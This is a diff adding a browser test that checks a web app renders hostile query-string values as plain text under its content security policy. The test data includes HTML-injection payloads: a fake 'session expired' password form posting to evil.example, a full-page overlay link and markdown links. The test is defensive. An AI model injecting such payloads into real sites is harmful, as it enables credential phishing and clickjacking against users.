@@ -481,4 +481,66 @@ def test_the_e2e_task_from_the_form_to_both_panes_and_its_lesson(task_server, wi
             bad = _page(browser, task_server.local_url.rstrip("/") + "/?task=%3Cb%3Ebold%3C/b%3E", width, height)
             assert _wait(lambda: "task must be one of chat, e2e" in bad.inner_text("#status"), 20)
             assert bad.locator("#status b:has-text('bold')").count() == 0 and "<b>bold</b>" in bad.inner_text("#status")
+
+
+# Links a stranger could post (issue 37): each part tries to draw a page element of its own.
+HOSTILE_LINK = {
+    '<form action="http://evil.example/s"><p>Your session expired. Sign in</p><input type="password" name="pw">'
+    "<button>Sign in</button></form>": "1",
+    '<a href="http://evil.example" style="position:fixed;top:0;left:0;width:100%;height:100%">continue</a>': "1",
+    "[text](http://evil.example)": "1",
+    "decay": '<b style="position:fixed;inset:0">x</b><form><input name="q"></form>',
+    "seed": "<img src=x>[seed](http://evil.example)",
+}
+FOREIGN_ELEMENTS = """() => {
+  const status = document.querySelector('#status');
+  const inStatus = Array.from(status.querySelectorAll('form, input, button, a, img, [style], svg'))
+      .map(e => e.outerHTML.slice(0, 120));
+  const forms = Array.from(document.querySelectorAll('form')).length;
+  const passwords = document.querySelectorAll('input[type=password]').length;
+  const evil = Array.from(document.querySelectorAll('a[href], form[action], img[src]'))
+      .filter(e => /evil\\.example|^x$/.test(e.getAttribute('href') || e.getAttribute('action') || e.getAttribute('src'))).length;
+  const covering = Array.from(document.querySelectorAll('body *')).filter(e => {
+      const s = getComputedStyle(e);
+      return s.position === 'fixed' && e.getBoundingClientRect().width * e.getBoundingClientRect().height
+          > 0.5 * innerWidth * innerHeight;
+  }).length;
+  return {inStatus, forms, passwords, evil, covering};
+}"""
+
+
+def test_a_hostile_link_is_shown_as_text_and_the_page_still_works_under_its_csp(server):
+    from urllib.parse import urlencode
+
+    with playwright.sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
+        page = browser.new_page(viewport={"width": 1400, "height": 1000})
+        console = []
+        page.on("console", lambda message: console.append(message.text))
+        page.on("pageerror", lambda error: console.append(str(error)))
+        before = server.fair_queue.page_sessions()
+        clean = page.goto(server.local_url)  # the normal page first: it loads and renders under the policy
+        page.wait_for_selector("#generate-btn", timeout=60_000)
+        # its heartbeat carried the page token the load set: a page session (app/page_tokens.py)
+        assert _wait(lambda: server.fair_queue.page_sessions() > before, 10), server.fair_queue.page_sessions()
+        assert "'nonce-" in clean.headers["content-security-policy"]
+        page.wait_for_selector("#schedule-plot .main-svg", timeout=30_000)
+        baseline = page.evaluate(FOREIGN_ELEMENTS)
+        response = page.goto(server.local_url.rstrip("/") + "/?" + urlencode(HOSTILE_LINK))
+        assert response.status == 200
+        page.wait_for_selector("#generate-btn", timeout=60_000)
+        assert _wait(lambda: "The link has a problem" in page.inner_text("#status"), 20), page.inner_text("#status")
+        status = page.inner_text("#status")
+        # Shown as the characters of the link, capped: the markup is visible text, not elements.
+        assert '<form action="http://evil.example/s">' in status and "[text](http://evil.example)" in status, status
+        assert "decay must be one of" in status and "seed must be" in status and len(status) < 700, status
+        found = page.evaluate(FOREIGN_ELEMENTS)
+        assert found == baseline and found["passwords"] == found["evil"] == 0, found  # gradio's own elements only
+        assert found["covering"] == 0, found
+        page.click("#generate-btn")  # and Generate still works
+        _run_to_done(page, 120)
+        assert _token_count(page) > 0 and _full_length(page) > 0
+        page.wait_for_selector("#heatmap .main-svg", timeout=10_000)
+        violations = [text for text in console if "Content Security Policy" in text]
+        assert not violations, violations[:3]
         browser.close()
